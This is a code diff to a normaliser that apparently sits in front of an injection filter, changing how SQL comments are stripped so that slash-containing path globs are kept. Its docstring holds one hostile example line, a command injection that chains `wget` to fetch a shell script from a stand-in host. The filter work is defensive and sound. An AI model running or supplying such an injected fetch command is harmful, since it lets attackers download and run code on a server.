@@ -13,7 +13,8 @@ Steps, in order:
 2. Overlong UTF-8 forms of ASCII (``%c0%af`` for ``/``) and full-width ASCII
    (U+FF01..U+FF5E) fold to plain ASCII.
 3. SQL comments: ``/*!50000`` (MySQL's executable comment) and ``*/`` become a space,
-   other ``/* ... */`` become one space.
+   other ``/* ... */`` become one space, unless their body holds a ``/``: then the ``/*``
+   is a path glob (``/tmp/*;wget http://x/*.sh``), not a comment, and stays.
 4. ASCII lower case; ``+``, ``\\``, tabs, line breaks, vertical tab, form feed and
    no-break space become a space or ``/``; runs of spaces collapse to one.
 """
@@ -33,7 +34,7 @@ _NAMED = {b"lt": b"<", b"gt": b">", b"quot": b'"', b"apos": b"'", b"amp": b"&"}
 _OVERLONG = re.compile(
     rb"[\xc0\xc1][\x80-\xbf]|\xe0[\x80\x81][\x80-\xbf]|\xef\xbc[\x81-\xbf]|\xef\xbd[\x80-\x9e]"
 )
-_COMMENT = re.compile(rb"/\*![0-9]*|/\*.*?(?:\*/|\Z)|\*/", re.DOTALL)
+_COMMENT = re.compile(rb"/\*![0-9]*|/\*[^/]*?\*/|\*/")
 _SPACES = re.compile(rb" {2,}")
 _FOLD = bytes.maketrans(b"+\\\t\n\r\x0b\x0c\xa0", b" /      ")
 
